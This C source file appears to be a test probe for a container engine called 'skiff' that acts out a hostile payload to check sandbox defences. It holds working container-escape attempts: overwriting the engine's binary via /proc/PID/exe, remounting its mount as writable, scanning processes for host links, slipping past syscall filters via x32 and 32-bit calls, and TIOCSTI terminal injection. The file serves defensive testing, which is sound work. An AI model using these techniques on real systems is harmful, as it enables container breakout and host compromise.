/*
 * What a hostile payload does, one attack a word; static, for it is put into images and volumes.
 * Every attack prints what it got and exits 1 when it got something, 0 when it was kept out.
 *
 *     probe descriptors      descriptors beyond 0, 1, 2 that this process was born with
 *     probe exe              waits for a process of the engine's, and tries to write its file
 *     probe watch FILE SECRET   looks into every process that comes, until FILE is there; SECRET is
 *                            a file that the host alone has
 *     probe watch-host FILE SECRET   the same, where processes of others are seen, too: only for
 *                            what is the engine's
 *     probe calls            system calls that make user namespaces or reach past a filter
 *     probe type             to put characters into the terminal's input (TIOCSTI)
 *     probe hold             waits to be killed
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int descriptors(void)
{
    int got = 0;
    DIR *dir = opendir("/proc/self/fd");
    struct dirent *entry;
    while (dir && (entry = readdir(dir))) {
        char target[4096] = "";
        int fd = atoi(entry->d_name);
        if (entry->d_name[0] == '.' || fd < 3 || fd == dirfd(dir))
            continue;
        if (readlinkat(dirfd(dir), entry->d_name, target, sizeof(target) - 1) < 0)
            continue;
        printf("descriptor %d: %s\n", fd, target);
        got = 1;
    }
    return dir ? got : 2;
}

/* Whether process @pid executes a file of the engine's, which it hides behind a mount of its own.
 */
static int is_engine(const char *pid, char target[4096])
{
    char path[64];
    memset(target, 0, 4096);
    snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
    return readlink(path, target, 4095) > 0 &&
           (strcmp(target, "/") == 0 || strstr(target, "skiff"));
}

/* Opens the file of @fd for writing, in every way. While somebody executes it, that is ETXTBSY,
 * which is no wall: it passes. */
static int try_write(int fd)
{
    static const int flags[] = {O_RDWR, O_WRONLY, O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC};
    char path[64];
    int got = 0;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
        int opened = -1;
        for (int tries = 0; tries < 200; tries++) {
            opened = open(path, flags[i] | O_CLOEXEC);
            if (opened >= 0 || errno != ETXTBSY)
                break;
            usleep(50000);
        }
        if (opened >= 0)
            puts("it can be written");
        else
            printf("kept out: %s\n", strerror(errno));
        got |= opened >= 0 ? 1 : errno == ETXTBSY ? 2 : 0;
        if (opened >= 0)
            close(opened);
    }
    return got;
}

static int attack_mount(int fd)
{
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    int got = 0;
    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable)) == 0) {
        puts("its mount can be changed");
        got = 1;
    }
    int here = open("/file", O_RDONLY | O_CREAT | O_CLOEXEC, 0600);
    if (syscall(SYS_move_mount, fd, "", here, "",
                MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH) == 0) {
        puts("its mount can be moved here");
        got = 1;
    }
    unsigned flags = AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC;
    int copy = (int)syscall(SYS_open_tree, fd, "", flags);
    if (copy >= 0) {
        puts("its mount can be copied");
        syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &writable, sizeof(writable));
        got |= try_write(copy) | 1;
    }
    return got;
}

/* The same with all rights in a user namespace of our own, if the filter lets us have one. */
static int attack_mount_as_root(int fd)
{
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
            _exit(0);
        puts("in a user namespace of our own");
        int got = attack_mount(fd);
        fflush(stdout);
        _exit(got);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 2;
}

static int attack_exe(void)
{
    char target[4096], path[300];
    for (int tries = 0; tries < 2000; tries++) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        while (dir && (entry = readdir(dir))) {
            if (atoi(entry->d_name) <= 0 || !is_engine(entry->d_name, target))
                continue;
            printf("process %s executes %s\n", entry->d_name, target);
            snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            int got = attack_mount(fd) | attack_mount_as_root(fd);
            kill(atoi(entry->d_name), SIGKILL);
            return got | try_write(fd);
        }
        if (dir)
            closedir(dir);
        usleep(10000);
    }
    puts("no process of the engine's was seen");
    return 2;
}

/* One look at another process: a descriptor beyond its streams, or a program of the engine's. */
static int look_at(const char *pid, const char *secret, bool descriptors_too)
{
    char path[4096], target[4096] = "";
    int got = 0;
    if (is_engine(pid, target)) {
        printf("process %s executes %s\n", pid, target);
        got = 1;
    }
    static const char *const links[] = {"root", "cwd"};
    for (size_t i = 0; i < 2; i++) {
        snprintf(path, sizeof(path), "/proc/%s/%s%s", pid, links[i], secret);
        if (access(path, F_OK) == 0) {
            printf("process %s leads to the host by its %s\n", pid, links[i]);
            got = 1;
        }
    }
    snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    DIR *dir = descriptors_too || got ? opendir(path) : NULL;
    struct dirent *entry;
    while (dir && (entry = readdir(dir))) {
        memset(target, 0, sizeof(target));
        if (entry->d_name[0] == '.' || atoi(entry->d_name) < 3)
            continue;
        if (readlinkat(dirfd(dir), entry->d_name, target, sizeof(target) - 1) < 0)
            continue;
        printf("process %s has descriptor %s: %s\n", pid, entry->d_name, target);
        got = 1;
    }
    if (dir)
        closedir(dir);
    return got;
}

/* The PID that was given out last in this namespace: the last word of /proc/loadavg. */
static int newest(void)
{
    char text[128] = "";
    int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
    if (fd < 0 || read(fd, text, sizeof(text) - 1) < 0)
        return 0;
    close(fd);
    char *word = strrchr(text, ' ');
    return word ? atoi(word + 1) : 0;
}

static int watch(const char *until, const char *secret, bool descriptors_too)
{
    int got = 0, first = newest(), last = first;
    unsigned long rounds = 0;
    while (access(until, F_OK) < 0) {
        last = newest();
        for (int pid = last; pid > last - 6 && pid > first; pid--) {
            char name[16];
            snprintf(name, sizeof(name), "%d", pid);
            if (pid != getpid())
                got |= look_at(name, secret, descriptors_too);
        }
        rounds++;
    }
    printf("looked %lu times, saw %d processes\n", rounds, last - first);
    return got;
}

static int call(const char *name, long result)
{
    if (result < 0)
        return 0;
    printf("%s went through\n", name);
    return 1;
}

#ifdef __x86_64__
static long call_32(long number, long argument)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(argument) : "memory");
    return result;
}
#endif

/* In a child each, so that what goes through is not in the way of the next. */
static int try_call(int which)
{
    struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    switch (which) {
    case 0:
        return call("unshare(NEWUSER)", unshare(CLONE_NEWUSER));
    case 1:
        return call("unshare(NEWNS)", unshare(CLONE_NEWNS));
    case 2:
        return call("clone3(NEWUSER)", syscall(SYS_clone3, &args, sizeof(args)));
    case 3:
        return syscall(SYS_clone3, NULL, 0) < 0 && errno == ENOSYS ? 0 : call("clone3", 0);
    case 4:
        return call("clone(NEWUSER)", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
    case 5:
        return call("setns", syscall(SYS_setns, open("/proc/self/ns/ipc", O_RDONLY), 0));
    case 6:
        return call("keyctl", syscall(SYS_keyctl, 0, -3, 0));
    case 7:
        return call("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE));
    case 8:
        return call("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    case 9:
        return call("socket(VSOCK)", socket(AF_VSOCK, SOCK_STREAM, 0));
    case 10:
        return call("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, NULL, 0)) |
               (errno == EPERM ? 0 : call("open_by_handle_at", 0));
    case 11:
        return syscall(SYS_userfaultfd, 0) < 0 && errno == EPERM ? 0 : call("userfaultfd", 0);
    case 12:
        return syscall(SYS_bpf, 0, NULL, 0) < 0 && errno == EPERM ? 0 : call("bpf", 0);
    case 13:
        return syscall(SYS_io_uring_setup, 1, NULL) < 0 && errno == EPERM ? 0 : call("io_uring", 0);
#ifdef __x86_64__
    case 14: /* the x32 table and the 32-bit one, past a filter that forgot them */
        return call("unshare of x32", syscall(0x40000000 + SYS_unshare, CLONE_NEWUSER));
    case 15:
        return call("32-bit unshare", call_32(310, CLONE_NEWUSER));
    case 16:
        return call("32-bit clone", call_32(120, CLONE_NEWUSER | SIGCHLD));
#endif
    default:
        return -1;
    }
}

static int calls(void)
{
    int got = 0;
    for (int which = 0; which < 17; which++) {
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            int r = try_call(which);
            fflush(stdout);
            _exit(r == 1);
        }
        int status = 0;
        waitpid(pid, &status, 0);
        got |= WIFEXITED(status) && WEXITSTATUS(status);
    }
    return got;
}

static int type_into_terminal(void)
{
    int got = 0;
    for (const char *c = "touch /typed\n"; *c; c++)
        if (ioctl(0, TIOCSTI, c) == 0)
            got = 1;
    puts(got ? "typed" : strerror(errno));
    return got;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (strcmp(what, "descriptors") == 0)
        return descriptors();
    if (strcmp(what, "exe") == 0)
        return attack_exe();
    if (strcmp(what, "watch") == 0 && argc == 4)
        return watch(argv[2], argv[3], true);
    if (strcmp(what, "watch-host") == 0 && argc == 4)
        return watch(argv[2], argv[3], false);
    if (strcmp(what, "calls") == 0)
        return calls();
    if (strcmp(what, "type") == 0)
        return type_into_terminal();
    /* As the helper of an engine that is itself the payload, and waits for it. */
    if (strcmp(what, "hold") == 0 || strstr(argv[0], "skiff-image"))
        for (;;)
            pause();
    fprintf(stderr, "probe: what?\n");
    return 2;
}
